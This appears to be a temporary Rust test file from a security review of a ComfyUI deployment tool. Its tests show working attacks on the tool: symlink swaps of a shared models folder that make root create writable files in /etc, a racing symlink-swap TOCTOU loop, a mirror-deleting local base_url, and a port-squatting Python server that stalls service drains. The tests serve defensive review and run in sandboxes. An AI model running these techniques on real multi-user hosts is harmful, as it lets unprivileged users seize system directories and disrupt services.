//! TEMPORARY attack tests (review session); delete after use.
#![allow(clippy::unwrap_used, dead_code)]

mod common;
mod sandbox;

use common::*;
use sha2::{Digest as _, Sha256};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt as _;

fn serve(files: Vec<(String, Vec<u8>)>) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { return };
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut first = String::new();
            r.read_line(&mut first).unwrap();
            let path = first.split_whitespace().nth(1).unwrap_or("").to_owned();
            loop {
                let mut h = String::new();
                if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                    break;
                }
            }
            match files.iter().find(|(p, _)| path.ends_with(p.as_str())) {
                Some((_, body)) => {
                    let _ = write!(s, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                    let _ = s.write_all(body);
                }
                None => {
                    let _ = write!(s, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                }
            }
        }
    });
    port
}

fn model(path: &str, body: &[u8]) -> bundle::ModelFile {
    bundle::ModelFile {
        path: path.into(),
        sha256: hex::encode(Sha256::digest(body)),
        size: body.len() as u64,
        url: format!("https://models.invalid/{path}"),
    }
}

/// (a) The configured NFS target is opened by its path: whoever can write one of its parents
/// (the share's own folders) swaps it for a link and root creates group-writable folders and
/// files wherever the link points.
#[test]
fn r1_configured_target_swapped_for_a_link() {
    let h = TestHost::new();
    let body = b"weights".to_vec();
    let port = serve(vec![("ultralytics/bbox/face.pt".into(), body.clone())]);
    let share = h.tmp.path().join("share/comfy/models");
    fs_err::create_dir_all(&share).unwrap();
    let victim = h.tmp.path().join("victim-etc");
    fs_err::create_dir_all(&victim).unwrap();
    h.config_tail(&format!(
        "[service]\nuser = \"root\"\ngroup = \"root\"\n[access]\ngroup = \"root\"\n[data]\nmodels = \"{}\"\n[models]\nbase_url = \"http://127.0.0.1:{port}/m\"",
        share.display()
    ));
    let o = h.ctl(&["setup"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let mut t = Tree::demo("a");
    t.models = vec![model("ultralytics/bbox/face.pt", &body)];
    let b = h.bundle("1.0", 1, &t);
    h.activate_ok(&b);
    // The group member who may write share/comfy:
    fs_err::rename(&share, h.tmp.path().join("share/comfy/models.real")).unwrap();
    std::os::unix::fs::symlink(&victim, &share).unwrap();
    let o = h.ctl(&["models", "--fetch", "--json"]);
    eprintln!("R1 models --fetch: code {} {}{}", o.code, o.stdout, o.stderr);
    for p in ["ultralytics", "ultralytics/bbox", "ultralytics/bbox/face.pt"] {
        let m = fs_err::symlink_metadata(victim.join(p));
        eprintln!("R1 victim/{p}: {:?}", m.map(|m| (m.uid(), m.gid(), format!("{:o}", m.mode()))));
    }
}

/// A local path as `[models] base_url` (not refused): the mirror's file is deleted after the copy.
#[test]
fn r2_local_base_url_deletes_the_mirror() {
    let h = TestHost::new();
    let body = b"weights-two".to_vec();
    let mirror = h.tmp.path().join("mirror");
    fs_err::create_dir_all(&mirror).unwrap();
    fs_err::write(mirror.join("two.bin"), &body).unwrap();
    fs_err::write(mirror.join("wrong.bin"), b"not what is declared").unwrap();
    h.config_tail(&format!(
        "[service]\nuser = \"root\"\ngroup = \"root\"\n[access]\ngroup = \"root\"\n[models]\nbase_url = \"{}\"",
        mirror.display()
    ));
    assert_eq!(h.ctl(&["setup"]).code, 0);
    let mut t = Tree::demo("a");
    t.models = vec![model("two.bin", &body), model("wrong.bin", b"declared")];
    let b = h.bundle("1.0", 1, &t);
    h.activate_ok(&b);
    let o = h.ctl(&["models", "--fetch", "--json"]);
    eprintln!("R2 models --fetch: code {} {}{}", o.code, o.stdout, o.stderr);
    eprintln!("R2 mirror/two.bin still there: {}", mirror.join("two.bin").exists());
    eprintln!("R2 mirror/wrong.bin still there: {}", mirror.join("wrong.bin").exists());
}

/// FIFOs, sockets, directories at declared paths; a racer swapping the model's folder for a link
/// while fetches run.
#[test]
fn r3_fifo_dir_and_racing_links() {
    let h = TestHost::new();
    let body = b"race".to_vec();
    let port = serve(vec![
        ("fifo.bin".into(), b"f".to_vec()),
        ("d/r.bin".into(), body.clone()),
    ]);
    h.config_tail(&format!(
        "[service]\nuser = \"root\"\ngroup = \"root\"\n[access]\ngroup = \"root\"\n[models]\nbase_url = \"http://127.0.0.1:{port}/m\"",
    ));
    assert_eq!(h.ctl(&["setup"]).code, 0);
    let mut t = Tree::demo("a");
    t.models = vec![model("fifo.bin", b"f"), model("dir.bin", b"x"), model("d/r.bin", &body)];
    let b = h.bundle("1.0", 1, &t);
    h.activate_ok(&b);
    let store = h.install().join("data/models");
    rustix::fs::mknodat(rustix::fs::CWD, store.join("fifo.bin"), rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o666), 0).unwrap();
    fs_err::create_dir(store.join("dir.bin")).unwrap();
    let t0 = std::time::Instant::now();
    let o = h.ctl(&["models", "--json"]);
    eprintln!("R3 check in {:?}: {}", t0.elapsed(), o.stdout);
    let outside = h.tmp.path().join("outside");
    fs_err::create_dir_all(&outside).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (s2, st2, out2) = (stop.clone(), store.clone(), outside.clone());
    let racer = std::thread::spawn(move || {
        let mut n = 0u64;
        while !s2.load(std::sync::atomic::Ordering::Relaxed) {
            let _ = fs_err::create_dir(st2.join("d.real"));
            let _ = std::fs::rename(st2.join("d"), st2.join("d.real"));
            let _ = std::os::unix::fs::symlink(&out2, st2.join("d.link"));
            let _ = std::fs::rename(st2.join("d.link"), st2.join("d"));
            let _ = std::fs::remove_file(st2.join("d"));
            let _ = std::fs::rename(st2.join("d.real"), st2.join("d"));
            n += 1;
        }
        n
    });
    let mut placed = 0;
    for _ in 0..60 {
        let _ = fs_err::remove_file(store.join("d/r.bin"));
        let o = h.ctl(&["models", "--fetch", "--json"]);
        if o.stdout.contains("\"fetched\"") {
            placed += 1;
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let n = racer.join().unwrap();
    let leaked: Vec<_> = fs_err::read_dir(&outside).unwrap().map(|e| e.unwrap().path()).collect();
    eprintln!("R3 racer swaps {n}, fetched {placed}/60, files outside: {leaked:?}");
}

/// (a) A member of the access group (not the service) answers the drain's /queue while the app
/// is down: every verb that stops the unit waits for the whole drain timeout with the lock held.
#[test]
fn s1_drain_squat_and_nfs_swap_in_sandbox() {
    use sandbox::*;
    let sb = Sandbox::boot_with("[access]\nusers = [\"alice\"]\n[health]\ntimeout_secs = 20\n[data]\nmodels = \"/srv/share/comfy/models\"\n");
    let o = sb.sh("useradd --create-home alice && mkdir -p /srv/share/comfy/models /srv/www/ultralytics/bbox && printf weights > /srv/www/ultralytics/bbox/face.pt");
    assert_eq!(o.code, 0, "{}", o.text);
    let o = sb.ctl(&format!("setup --key {}/release.pub", sb.share.path().display()));
    assert_eq!(o.code, 0, "{}", o.text);
    // The share's folder, writable by the team, as shared model trees are.
    let o = sb.sh("chgrp comfyui-users /srv/share/comfy && chmod 2775 /srv/share/comfy && ls -la /srv/share/comfy /opt/comfyui/data");
    eprintln!("{}", o.text);
    let a = sb.release(&Release::new("a", 1));
    let o = sb.ctl(&format!("activate {}", a.display()));
    assert_eq!(o.code, 0, "{}", o.text);
    let b = sb.release(&Release { revision: 2, ..Release::new("b", 2) });

    // --- drain squat ---
    assert_eq!(sb.ctl("service pause --no-drain").code, 0);
    let squat = "import http.server, json\n\
class H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        d = json.dumps({'queue_running': [[1, 'x']], 'queue_pending': []}).encode()\n        self.send_response(200); self.send_header('Content-Length', str(len(d))); self.end_headers(); self.wfile.write(d)\n    def log_message(self, *a): pass\n\
http.server.HTTPServer(('127.0.0.1', 8188), H).serve_forever()\n";
    fs_err::write(sb.share.path().join("squat.py"), squat).unwrap();
    let o = sb.sh(&format!(
        "setpriv --reuid alice --regid alice --init-groups -- /usr/bin/python3 {}/squat.py >/dev/null 2>&1 & sleep 1; id alice",
        sb.share.path().display()
    ));
    eprintln!("squatter: {}", o.text);
    let c = sb.share.path().display().to_string();
    let o = sb.sh(&format!(
        "( sleep 3; echo '--- concurrent rollback:'; {c}/comfyctl rollback 2>&1; echo rc=$? ) & \
         t0=$(date +%s); {c}/comfyctl activate {} --drain-timeout 12 2>&1; echo activate rc=$? after $(( $(date +%s) - t0 ))s; wait",
        b.display()
    ));
    eprintln!("S1 drain: {}", o.text);
    let o = sb.sh(&format!("{c}/comfyctl service install 2>&1 | tail -3 & sleep 4; kill %1 2>/dev/null; echo"));
    eprintln!("S1 service install while squatted: {}", o.text);
    sb.sh("pkill -u alice -f squat.py; sleep 0.5");

    // --- NFS target swap as alice ---
    let body = b"weights".to_vec();
    let tree = sb.share.path().join("tree-a");
    let mut m = bundle::testing::template();
    m.name = "demo".into();
    m.version = "m".into();
    m.sequence = 9;
    m.target = TARGET.into();
    m.launch = bundle::Launch { entry: "launch.sh".into(), args: vec!["--cpu".into()], env: Default::default(), device_type: "cpu".into() };
    m.expected_nodes = [("node_a".to_owned(), vec!["NodeA".to_owned()])].into();
    m.models = vec![bundle::ModelFile {
        path: "ultralytics/bbox/face.pt".into(),
        sha256: hex::encode(Sha256::digest(&body)),
        size: body.len() as u64,
        url: "http://127.0.0.1:8999/ultralytics/bbox/face.pt".into(),
    }];
    let mb = sb.share.path().join("m.bundle");
    bundle::pack(&tree, m, &sb.key, &mb, &Default::default(), &|_, _| {}).unwrap();
    let o = sb.sh("cd /srv/www && (setsid python3 -m http.server 8999 --bind 127.0.0.1 >/dev/null 2>&1 &) ; sleep 1");
    assert_eq!(o.code, 0, "{}", o.text);
    let o = sb.sh_as("alice", None, "cd /srv/share/comfy && mv models models.real && ln -s /etc models && ls -la /srv/share/comfy");
    eprintln!("S1 alice swap: {}", o.text);
    let o = sb.ctl(&format!("models {} --fetch --json", mb.display()));
    eprintln!("S1 root models --fetch: {}", o.text);
    let o = sb.sh("ls -la /etc/ultralytics /etc/ultralytics/bbox 2>&1");
    eprintln!("S1 /etc/ultralytics: {}", o.text);
    let o = sb.sh_as("alice", None, "echo pwned > /etc/ultralytics/alice-was-here && ls -la /etc/ultralytics/alice-was-here");
    eprintln!("S1 alice writes in /etc: rc {} {}", o.code, o.text);
}
